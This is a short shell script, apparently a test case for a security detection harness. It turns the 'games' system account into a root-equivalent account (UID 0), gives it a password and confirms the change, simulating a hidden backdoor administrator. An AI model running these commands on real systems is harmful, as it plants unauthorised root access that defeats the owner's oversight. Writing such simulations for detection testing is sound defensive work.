#!/bin/sh
. /opt/case/case.sh

usermod -o -u 0 -g 0 -s /bin/sh -d /root games
echo 'games:$1$x$0123456789012345678901' | chpasswd -e
test "$(id -u games)" = 0
took_place
